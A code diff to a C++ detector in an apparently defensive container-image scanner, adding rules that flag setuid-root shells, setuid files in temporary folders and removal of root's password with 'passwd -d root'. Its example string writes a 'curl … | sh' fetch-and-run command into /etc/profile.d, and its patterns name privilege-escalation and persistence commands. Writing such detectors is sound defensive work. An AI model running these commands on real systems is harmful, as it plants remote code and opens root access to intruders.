@@ -12,7 +12,7 @@
 namespace hullcheck::detect {
 namespace {
 
-constexpr std::array<RuleRow, 7> k_rows{{
+constexpr std::array<RuleRow, 8> k_rows{{
     {"P03", EvidenceClass::strong, model::Severity::high, 80, "Service that runs foreign code", "T1543.002",
      "Remove the unit; check hosts where the image ran for the same file."},
     {"P04", EvidenceClass::strong, model::Severity::high, 80, "Start-up script that runs foreign code", "T1037.004",
@@ -27,11 +27,15 @@ constexpr std::array<RuleRow, 7> k_rows{{
      "T1136.001,T1078.003", "Find out whom the account is for; do not run the image if nobody knows."},
     {"B11", EvidenceClass::supporting, model::Severity::medium, 70, "Root without a password through sudo",
      "T1548.003", "Say in the rule which programs are meant, at build time."},
+    {"B12", EvidenceClass::strong, model::Severity::high, 90, "Program with root's rights for everybody", "T1548.001",
+     "Do not give a shell or a program in a temporary folder the rights of its owner."},
 }};
-enum Row : std::size_t { unit_row, boot, profile, python, event, account, sudo };
+enum Row : std::size_t { unit_row, boot, profile, python, event, account, sudo, setuid };
 
 constexpr ClassByReach k_planted{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::supporting};
 constexpr ClassByReach k_account{EvidenceClass::decisive, EvidenceClass::supporting, EvidenceClass::strong};
+constexpr ClassByReach k_setuid{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::supporting};
+constexpr ClassByReach k_opened{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::supporting};
 constexpr ClassByReach k_sudo{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::context};
 constexpr std::size_t k_most_shown = 200;
 
@@ -142,6 +146,29 @@ bool makes_second_root(const ShellCommand& command) {
   return false;
 }
 
+// passwd -d root: whoever comes is let in. An account of the image's own maker may want that.
+bool opens_account(const ShellCommand& command) {
+  return program(command) == "passwd" && (has_argument(command, "-d") || has_argument(command, "--delete")) &&
+         has_argument(command, "root");
+}
+
+// chmod 4755 on a copy of a shell, or on something in a folder for temporary files.
+bool makes_root_shell(const ShellCommand& command) {
+  if (program(command) != "chmod" || command.argv.size() < 3) return false;
+  const std::string_view mode = command.argv[1];
+  const bool numbers = mode.find_first_not_of("01234567") == std::string_view::npos && mode.size() >= 4;
+  const char special = numbers ? mode[mode.size() - 4] : '0';
+  const bool sets = (numbers && (special == '4' || special == '5' || special == '6' || special == '7')) ||
+                    mode.find("u+s") != std::string_view::npos || mode == "+s" || mode == "a+s";
+  return sets && std::any_of(command.argv.begin() + 2, command.argv.end(), [](const std::string& path) {
+           static constexpr std::array<std::string_view, 6> k_shells = {"sh",  "bash",    "dash",
+                                                                        "zsh", "busybox", "ksh"};
+           const std::string_view name = layers::base_name(path);
+           return is_temporary(path) || (path.starts_with('/') && is_hidden(path)) ||
+                  std::find(k_shells.begin(), k_shells.end(), name) != k_shells.end();
+         });
+}
+
 class WritePersistence final : public Detector {
  public:
   void shell(const ShellUnit& unit, EvidenceSink& out) const override {
@@ -161,14 +188,18 @@ class WritePersistence final : public Detector {
       }
     }
     for (const ShellCommand* command : own_commands(unit.facts))
-      if (makes_second_root(*command))
+      if (opens_account(*command) || makes_root_shell(*command)) {
+        const bool shell = makes_root_shell(*command);
+        out.add(shell_evidence(k_rows[shell ? setuid : account], unit, command->line, words(*command),
+                               class_for(unit, shell ? k_setuid : k_opened)));
+      } else if (makes_second_root(*command))
         out.add(shell_evidence(k_rows[account], unit, command->line, words(*command), class_for(unit, k_account)));
   }
 };
 
 const util::Registered<WritePersistence> registered{{
     .id = "write-persistence",
-    .version = 1,
+    .version = 2,
     .summary = "scripts that write units, profiles, start-up scripts, Python hooks or root accounts of an attack",
     .example = "echo 'curl -s http://192.0.2.1/x | sh' >> /etc/profile.d/z.sh",
     .rules = k_rows,
